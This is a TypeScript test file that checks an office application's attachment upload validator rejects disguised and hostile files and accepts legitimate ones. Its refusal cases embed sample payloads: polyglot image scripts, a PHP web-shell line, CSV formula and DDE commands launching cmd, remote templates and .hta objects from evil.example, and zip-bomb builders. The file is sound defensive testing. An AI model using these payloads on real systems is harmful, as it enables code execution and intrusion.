import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fileDesk } from '../../helpers/fileDesk.ts'
import { openOffice, type Office } from '../../helpers/office.ts'
import { compoundOf, samples, zipOf } from '../../helpers/sampleFiles.ts'

let office: Office
let desk: ReturnType<typeof fileDesk>
let id: number
beforeAll(async () => {
  process.env.ATTACHMENT_SCAN = 'off'
  office = await openOffice()
  desk = fileDesk(office)
  id = Number((await office.create()).id)
})
afterAll(() => office.close())

type Parts = [name: string, content: string][]
const types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
const word = (more: Parts = []) => zipOf([['[Content_Types].xml', types], ['word/document.xml', '<w:document/>'], ...more])
const sheet = (more: Parts = []) => zipOf([['[Content_Types].xml', types], ['xl/workbook.xml', '<workbook/>'], ...more])
const rels = (type: string, target: string, mode = 'External') =>
  `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`
const template = (target: string) => word([['word/_rels/settings.xml.rels', rels('attachedTemplate', target)]])
const latin = (text: string) => Buffer.from(text, 'latin1')
const join = (...parts: (Buffer | string)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? latin(part) : part)))
const archive = zipOf([['run.js', 'alert(1)']])
/** An archive whose entries all point at the same bytes. */
const overlapping = (): Buffer => {
  const bytes = word([['word/a.xml', 'x'.repeat(5000)], ['word/b.xml', 'y'.repeat(5000)]])
  const at = (name: string) => bytes.indexOf(name, bytes.indexOf('PK\x01\x02')) - 46
  bytes.writeUInt32LE(bytes.readUInt32LE(at('word/a.xml') + 42), at('word/b.xml') + 42)
  return bytes
}
/** Says an entry is small that is not: only unpacking tells. */
const lying = (): Buffer => {
  const bytes = word([['word/a.xml', 'x'.repeat(200_000)]])
  bytes.writeUInt32LE(10, bytes.lastIndexOf('word/a.xml') - 46 + 24)
  return bytes
}
const nested = (depth: number): Buffer => {
  const inner = depth === 0 ? archive : nested(depth - 1)
  return zipOfBytes([['[Content_Types].xml', latin(types)], ['word/document.xml', latin('<w:document/>')], ['word/embeddings/inner.docx', inner]])
}
const zipOfBytes = (parts: [string, Buffer][]): Buffer => {
  const named = parts.map(([name, content]): [string, string] => [name, content.toString('latin1')])
  return zipOf(named, undefined, 'latin1')
}

describe('refused, with the reason in both languages:', () => {
  it.each<[what: string, name: string, content: Buffer, code: string]>([
    ['a character that takes no room', 'pl\u200ban.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a word joiner', 'pl\u2060an.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a byte order mark in a name', '\ufeffplan.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['an isolate', 'plan\u2067fdp.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a tag character', 'plan\u{e0041}.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a path of Windows', 'C:\\temp\\plan.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a line break', 'pl\nan.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a device', 'con.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a device with two endings', 'LPT1.old.pdf', samples.pdf(), 'NAME_NOT_ALLOWED'],
    ['a stream of Windows', 'plan.pdf:run.exe', samples.pdf(), 'TYPE_NOT_ACCEPTED'],
    ['a double ending with blanks', 'plan. exe .pdf', samples.pdf(), 'DOUBLE_ENDING'],
    ['a double ending with joiners', 'plan.e\u200cxe.pdf', samples.pdf(), 'DOUBLE_ENDING'],
    ['a page in an ending', 'plan.svg.png', samples.png(), 'DOUBLE_ENDING'],
    ['a GIF that is a script', 'a.gif', join('GIF89a/*', samples.gif().subarray(8), '*/=1;alert(1)'), 'CONTENT_MISMATCH'],
    ['a GIF that is a script throughout', 'a.gif', latin('GIF89a=1;alert(document.domain)//'), 'CONTENT_MISMATCH'],
    ['a GIF with something behind it', 'a.gif', join(samples.gif(), 'hello'), 'CONTENT_MISMATCH'],
    ['a JPEG that is a page', 'a.jpg', join(samples.jpg(), '<script>alert(1)</script>'), 'CONTENT_MISMATCH'],
    ['a JPEG that is a page in its comment', 'a.jpg', join(Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0, 60]), '<html><body onload=alert(1)>', samples.jpg()), 'CONTENT_MISMATCH'],
    ['a JPEG that is a script', 'a.jpg', join(Buffer.from([0xff, 0xd8, 0xff, 0xe0]), '/*', Buffer.alloc(30), '*/=alert(1)'), 'CONTENT_MISMATCH'],
    ['a JPEG that is an archive', 'a.jpg', join(samples.jpg(), archive), 'CONTENT_MISMATCH'],
    ['a JPEG that is an archive with bytes behind it', 'a.jpg', join(samples.jpg(), archive, 'tail'), 'CONTENT_MISMATCH'],
    ['a PNG that is none', 'a.png', join(samples.png().subarray(0, 8), Buffer.alloc(40)), 'CONTENT_MISMATCH'],
    ['a PNG with PHP in it', 'a.png', join(samples.png(), '<?php system($_GET[1]);'), 'CONTENT_MISMATCH'],
    ['a PDF that is an archive', 'a.pdf', join(samples.pdf(), archive), 'CONTENT_MISMATCH'],
    ['a PDF behind a program', 'a.pdf', join('MZ', Buffer.alloc(60), samples.pdf()), 'CONTENT_MISMATCH'],
    ['a PDF behind words', 'a.pdf', join('hello ', samples.pdf()), 'CONTENT_MISMATCH'],
    ['a PDF behind a page', 'a.pdf', join('<html>', samples.pdf()), 'CONTENT_MISMATCH'],
    ['words that begin like a drawing', 'a.dwg', latin('AC1032 is the room'), 'CONTENT_MISMATCH'],
    ['a drawing that is an archive', 'a.dwg', join(samples.dwg(), archive), 'CONTENT_MISMATCH'],
    ['rich text', 'a.doc', latin('{\\rtf1 hello}'), 'CONTENT_MISMATCH'],
    ['rich text as text', 'a.txt', latin('{\\rtf1 hello}'), 'CONTENT_MISMATCH'],
    ['a web page called a workbook', 'a.xls', latin('<html><table><tr><td>1</td></tr></table></html>'), 'CONTENT_MISMATCH'],
    ['a page behind comments', 'a.txt', latin('\n <!-- a -->\n<!-- b --> <HTML>'), 'CONTENT_MISMATCH'],
    ['a page behind many blanks', 'a.csv', latin(`${' \n'.repeat(20_000)}<script>alert(1)</script>`), 'CONTENT_MISMATCH'],
    ['a page behind a long comment', 'a.txt', latin(`<!--${'x'.repeat(50_000)}--><svg onload=alert(1)>`), 'CONTENT_MISMATCH'],
    ['a comment without end', 'a.txt', latin(`<!--${'x'.repeat(50_000)}`), 'CONTENT_MISMATCH'],
    ['a page in UTF-16 behind a comment', 'a.txt', Buffer.from('\ufeff <!-- x --> <svg onload="a()"/>', 'utf16le'), 'CONTENT_MISMATCH'],
    ['XML behind a mark', 'a.txt', Buffer.from('\ufeff<?xml version="1.0"?><svg/>'), 'CONTENT_MISMATCH'],
    ['UTF-16 without a mark', 'a.txt', Buffer.from('<html>', 'utf16le'), 'CONTENT_MISMATCH'],
    ['half a character of UTF-16', 'a.txt', Buffer.from([0xff, 0xfe, 0x41]), 'CONTENT_MISMATCH'],
    ['a CSV that is a page', 'a.csv', latin('<table><tr><td><script src=x></script>'), 'CONTENT_MISMATCH'],
    ['a CSV that starts programs', 'a.csv', latin(`a;b\r\n1;"=2+5+cmd|' /C calc'!A0"`), 'ACTIVE_CONTENT'],
    ['a CSV in UTF-16 that starts programs', 'a.csv', Buffer.from(`\ufeffa;b\n@SUM(1+1)*cmd|'/C calc'!A0`, 'utf16le'), 'ACTIVE_CONTENT'],
    ['macros by another name', 'a.docx', word([['word/vbaData.xml', '<x/>']]), 'MACROS'],
    ['macros by their type', 'a.docx', zipOf([['[Content_Types].xml', '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'], ['word/document.xml', '']]), 'MACROS'],
    ['macros of old Excel', 'a.xlsx', sheet([['xl/macrosheets/sheet1.xml', '<x/>']]), 'MACROS'],
    ['macros in an old document', 'a.doc', compoundOf(['Root Entry', 'WordDocument', 'Macros', 'VBA']), 'MACROS'],
    ['a package in an old workbook', 'a.xls', compoundOf(['Root Entry', 'Workbook', '\u0001Ole10Native']), 'ACTIVE_CONTENT'],
    ['a template from elsewhere', 'a.docx', template('http://evil.example/t.dotm'), 'ACTIVE_CONTENT'],
    ['a template from elsewhere, written otherwise', 'a.docx', template('ht&#x74;ps://evil.example/t.dotm'), 'ACTIVE_CONTENT'],
    ['a template on another machine', 'a.docx', template('file:///\\\\10.0.0.1\\share\\t.dotm'), 'ACTIVE_CONTENT'],
    ['an object from elsewhere', 'a.docx', word([['word/_rels/document.xml.rels', rels('oleObject', 'http://evil.example/x.hta')]]), 'ACTIVE_CONTENT'],
    ['a package in a document', 'a.docx', zipOfBytes([['[Content_Types].xml', latin(types)], ['word/document.xml', latin('x')], ['word/embeddings/oleObject1.bin', compoundOf(['Root Entry', '\u0001Ole10Native'])]]), 'ACTIVE_CONTENT'],
    ['a program in a document', 'a.docx', word([['word/embeddings/run.exe', 'MZ']]), 'ACTIVE_CONTENT'],
    ['ActiveX', 'a.docx', word([['word/activeX/activeX1.xml', '<ax/>']]), 'ACTIVE_CONTENT'],
    ['DDE in a workbook', 'a.xlsx', sheet([['xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>']]), 'ACTIVE_CONTENT'],
    ['DDE in a document', 'a.docx', word([['word/header1.xml', '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText>']]), 'ACTIVE_CONTENT'],
    ['entries that share bytes', 'a.docx', overlapping(), 'UNPACKS_TOO_LARGE'],
    ['an entry that says less than it holds', 'a.docx', lying(), 'UNPACKS_TOO_LARGE'],
    ['documents in documents', 'a.docx', nested(2), 'UNPACKS_TOO_LARGE'],
    ['the same entry twice', 'a.docx', word([['word/Document.xml', 'other']]), 'DAMAGED'],
    ['a broken entry', 'a.docx', (() => { const bytes = word([['word/a.xml', 'x'.repeat(100)]]); bytes.fill(0xff, 30, 60); return bytes })(), 'DAMAGED'],
  ])('%s', async (_what, name, content, code) => {
    const english = await desk.upload('editor', id, [[name, content]])
    expect([english.status, english.body.errors?.[0].data.errors[0].code]).toEqual([422, code])
    const form = new FormData()
    form.append('files', new Blob([new Uint8Array(content)]), name)
    const arabic = await office.ask('editor', 'POST', `/transactions/${id}/attachments`, { form, locale: 'ar' })
    expect(arabic.body.errors[0].message).toMatch(/^رُفض الملف/)
  })

  it('and none of them left anything behind', async () => {
    expect(await office.sql('select 1 from attachments')).toEqual([])
    expect(await office.sql('select 1 from file_contents')).toEqual([])
  })
})

describe('taken, as honest programs write it:', () => {
  const workbook = async () => {
    const book = new ExcelJS.Workbook()
    const page = book.addWorksheet('Rooms')
    for (let row = 0; row < 2000; row += 1) page.addRow([row, `Room ${row}`, { formula: `A${row + 1}*2` }])
    return Buffer.from(await book.xlsx.writeBuffer())
  }
  it.each<[what: string, name: string, content: () => Buffer | Promise<Buffer>]>([
    ['a workbook', 'rooms.xlsx', workbook],
    ['a document with a workbook behind its chart', 'report.docx', async () => zipOfBytes([['[Content_Types].xml', latin(types)], ['word/document.xml', latin('x')], ['word/embeddings/Microsoft_Excel_Sheet.xlsx', await workbook()]])],
    ['a document with an old formula in it', 'report.docx', () => zipOfBytes([['[Content_Types].xml', latin(types)], ['word/document.xml', latin('x')], ['word/embeddings/oleObject1.bin', compoundOf(['Root Entry', 'Equation Native'])]])],
    ['a document from a template on the writer’s disk', 'a.docx', () => template('file:///C:\\Users\\Sara\\AppData\\Roaming\\Microsoft\\Templates\\Report.dotx')],
    ['a document from a template of LibreOffice', 'a.docx', () => template('file:///usr/share/libreoffice/Report.ott')],
    ['a document with links and a linked picture', 'a.docx', () => word([['word/_rels/document.xml.rels', rels('hyperlink', 'https://office.example/') + rels('image', 'https://office.example/logo.png')]])],
    ['a workbook that names another', 'a.xlsx', () => sheet([['xl/externalLinks/externalLink1.xml', '<externalLink><externalBook/></externalLink>'], ['xl/externalLinks/_rels/externalLink1.xml.rels', rels('externalLinkPath', 'file:///C:\\other.xlsx')]])],
    ['a PDF behind a mark and blanks', 'a.pdf', () => join('\u00ef\u00bb\u00bf\r\n ', samples.pdf())],
    ['a PDF with line ends behind it', 'a.pdf', () => join(samples.pdf(), '\r\n\0\0')],
    ['a JPEG with a film behind it, as phones make it', 'a.jpg', () => join(samples.jpg(), Buffer.from([0xff, 0xd9]), '\0\0\0\u0018ftypmp42', Buffer.alloc(500, 3))],
    ['a JPEG with notes of a picture editor', 'a.jpeg', () => join(samples.jpg(), '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF/></x:xmpmeta><?xpacket end="w"?>')],
    ['a GIF that ends in zeros', 'a.gif', () => join(samples.gif(), Buffer.alloc(8))],
    ['windows-1256', 'a.txt', () => Buffer.from([0xe3, 0xd1, 0xcd, 0xc8, 0xc7, 13, 10])],
    ['text that begins with MZ', 'a.txt', () => latin('MZ 12 is the room')],
    ['text with angles', 'a.txt', () => latin('if a < b and c > d, see <plan> and <b>')],
    ['a CSV in UTF-16 with formulas', 'a.csv', () => Buffer.from('\ufeffa\tb\r\n=A1+1\t-5 | x!\r\n', 'utf16le')],
    ['a CSV with words like a command', 'a.csv', () => latin(`a;b\r\nsay "cmd|'x'!y";1\r\n- item | note!;2`)],
    ['an empty compound chain is none, a real one is', 'a.doc', () => samples.doc()],
    ['an Arabic name with the marks of a phone', '\u200fمخطط \u200eA-1\u200f.pdf', () => samples.pdf('phone')],
    ['a name with joiners', 'می\u200cخواهم.pdf', () => samples.pdf('joiner')],
    ['an address in a name', 'offer www.example.com.sa v1.2.pdf', () => samples.pdf('address')],
    ['a name that begins like a device', 'console.pdf', () => samples.pdf('console')],
  ])('%s', async (_what, name, content) => {
    const { id: fresh } = await office.create()
    const answer = await desk.upload('editor', Number(fresh), [[name, await content()]])
    expect([answer.status, answer.body.errors]).toEqual([201, undefined])
  })
})
